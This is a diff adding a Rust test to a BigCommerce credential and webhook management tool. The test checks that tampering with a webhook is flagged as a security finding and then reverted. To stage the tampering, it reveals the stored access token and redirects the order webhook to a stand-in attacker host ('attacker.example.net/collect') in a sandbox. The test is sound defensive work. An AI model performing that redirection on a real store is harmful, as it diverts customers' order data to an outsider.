@@ -320,6 +320,41 @@ fn a_deactivated_webhook_is_reported_and_reactivated() {
 }
 
 #[test]
+fn a_webhook_changed_behind_bckeys_back_is_a_security_finding_and_apply_puts_it_back() {
+    let (repo, sandbox) = setup();
+    apply(&repo, &sandbox).code(0);
+    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
+    // Someone with the account's token sends the store's orders elsewhere.
+    let out = bckeys(&repo, &sandbox).args(["reveal", "store/production/erp-sync"]).output().unwrap();
+    let env = String::from_utf8(out.stdout).unwrap();
+    let token = env.lines().find_map(|l| l.strip_prefix("BIGCOMMERCE_ACCESS_TOKEN=")).unwrap().trim_matches('\'');
+    let (status, text) = sandbox.api(
+        "PUT",
+        &format!("/v3/hooks/{id}"),
+        token,
+        serde_json::json!({"destination": "https://attacker.example.net/collect"}),
+    );
+    assert_eq!(status, 200, "{text}");
+
+    let out = bckeys(&repo, &sandbox).args(["drift", "--format", "json"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let finding = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["finding"] == "webhook_destination_changed")
+        .unwrap_or_else(|| panic!("{report:#}"))
+        .clone();
+    assert_eq!(finding["severity"], "security");
+    assert!(finding["detail"].as_str().unwrap().contains("https://attacker.example.net/collect"));
+    bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("put it back"));
+    apply(&repo, &sandbox).code(0);
+    assert_eq!(hooks(&sandbox)[0]["destination"], "https://erp.example.com/hooks");
+    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
+}
+
+#[test]
 fn a_failed_token_replacement_keeps_the_old_token_recorded() {
     let (repo, sandbox) = setup();
     apply(&repo, &sandbox).code(0);
